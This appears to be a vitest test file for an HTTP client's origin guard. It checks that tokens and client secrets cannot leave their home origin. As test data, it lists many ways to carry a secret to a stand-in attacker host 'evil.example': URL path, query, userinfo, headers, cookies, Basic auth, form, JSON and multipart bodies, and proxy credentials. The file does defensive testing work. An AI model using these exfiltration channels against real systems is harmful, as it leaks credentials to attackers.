/** Ways to carry a secret to another host, composed from where it stands and how it is written: none gets out. */
import { expect, test } from 'vitest';
import type { Prepared, SendOptions } from '../../src/http/transport/message';
import { Guard } from '../../src/client/layers/origin-guard';
import { createLearner } from '../../src/client/layers/learn-secrets';
import { Secrets } from '../../src/values/secrets/secrets';
import { TRANSFORMATIONS } from '../leaks/transformations';
import { random } from '../leaks/secrets';

const HOME = 'https://dc.example';
const OLD = 'https://old.example';
const TOKEN = `eyJhbGciOiJSUzI1NiIsImtpZCI6IjEyMzQ1Njc4OTAifQ.${'cGF5bG9hZA7'.repeat(9)}.${'c2lnbmF0dXJl9'.repeat(5)}`;
const CLIENT_SECRET = 'Zx9-qLw7 Pk3/vT+mN5=rY8&uH2';
const OLD_TOKEN = 'old-centre-token-77aQx';

type Carrier = (text: string) => Partial<Prepared> & { readonly proxy?: string };
const bytes = (text: string): Uint8Array => Buffer.from(text);
const CARRIERS: Readonly<Record<string, Carrier>> = {
  path: (text) => ({ url: `https://evil.example/a/${encodeURIComponent(text)}/b` }),
  query: (text) => ({ url: `https://evil.example/?q=${encodeURIComponent(text)}` }),
  fragment: (text) => ({ url: `https://evil.example/#${encodeURIComponent(text)}` }),
  'user of the URL': (text) => ({ url: `https://me:${encodeURIComponent(text)}@evil.example/` }),
  header: (text) => ({ headers: [['X-Thing', text]] }),
  'name of a header': (text) => ({ headers: [[text, 'x']] }),
  cookie: (text) => ({ headers: [['Cookie', `a=b; c=${text}`]] }),
  'Basic credentials': (text) => ({
    headers: [['Authorization', `Basic ${Buffer.from(`me:${text}`).toString('base64')}`]],
  }),
  body: (text) => ({ body: bytes(text) }),
  'a form': (text) => ({ body: bytes(new URLSearchParams({ x: '1', t: text }).toString()) }),
  JSON: (text) => ({ body: bytes(JSON.stringify({ a: [{ t: text }] })) }),
  'a part of a form': (text) => ({
    body: bytes(`--b\r\nContent-Disposition: form-data; name="t"\r\n\r\n${text}\r\n--b--\r\n`),
  }),
  'a proxy': (text) => ({ proxy: `http://me:${encodeURIComponent(text)}@proxy.example:3128` }),
};

function open() {
  const secrets = new Secrets();
  secrets.add(TOKEN, { origin: HOME });
  secrets.add(CLIENT_SECRET, { origin: HOME });
  secrets.add(OLD_TOKEN, { origin: OLD });
  // A hostile reply with many secrets, before anything is sent.
  const fields = Array.from({ length: 10_000 }, (_, i) => [
    `secret_token_${i}`,
    `Zx7qLw7Pk3vTm${i}N5rY8uH27`,
  ]);
  const learner = createLearner(secrets, { origin: HOME, source: 'a reply', isGiven: false });
  learner.body(bytes(JSON.stringify(Object.fromEntries(fields))));
  const sent: Prepared[] = [];
  const send = new Guard(secrets, () => HOME).layer((request) => {
    sent.push(request);
    return { status: 200, reason: '', headers: [], body: new Uint8Array(), elapsedMs: 1 };
  });
  const attempt = ({ proxy, ...parts }: ReturnType<Carrier>): boolean => {
    const options: SendOptions = { verify: true, stream: false, ...(proxy === undefined ? {} : { proxy }) };
    try {
      send({ method: 'POST', url: 'https://evil.example/x', headers: [], ...parts }, options);
      return true;
    } catch {
      return false;
    }
  };
  return { attempt, learned: fields.map(([, value]) => value as string) };
}

test('after ten thousand learned secrets: every carrier with every writing', () => {
  const { attempt } = open();
  const next = random(3);
  const out: string[] = [];
  for (const [name, carry] of Object.entries(CARRIERS)) {
    for (const { name: writing, make } of TRANSFORMATIONS) {
      for (const secret of [TOKEN, CLIENT_SECRET]) {
        if (attempt(carry(make(secret, next)))) out.push(`${writing} in ${name}`);
      }
    }
  }
  expect(out).toEqual([]);
});

test('what was learned stays at home too, and the old centre keeps its own', () => {
  const { attempt, learned } = open();
  for (const i of [0, 1, 4999, 9999]) expect(attempt({ body: bytes(learned[i] ?? '') })).toBe(false);
  for (const carry of Object.values(CARRIERS)) {
    expect(attempt({ ...carry(OLD_TOKEN), url: `${HOME}/x` })).toBe(carry(OLD_TOKEN).url !== undefined);
  }
  expect(attempt({ url: `${OLD}/x`, headers: [['Authorization', `Bearer ${OLD_TOKEN}`]] })).toBe(true);
  expect(attempt({ url: `${OLD}/x`, headers: [['Authorization', `Bearer ${TOKEN}`]] })).toBe(false);
});

test('the name of a host, and a proxy that would read a request', () => {
  const { attempt } = open();
  expect(attempt({ url: `https://${OLD_TOKEN.toLowerCase()}.evil.example/` })).toBe(false);
  const headers: Prepared['headers'] = [['Authorization', `Bearer ${TOKEN}`]];
  expect(attempt({ url: 'http://127.0.0.1:8080/', headers, proxy: 'http://proxy.example:3128' })).toBe(false);
  expect(attempt({ url: `${HOME}/`, headers, proxy: 'http://proxy.example:3128' })).toBe(true);
  expect(attempt({ url: 'https://evil.example/', proxy: 'http://proxy.example:3128' })).toBe(true);
});
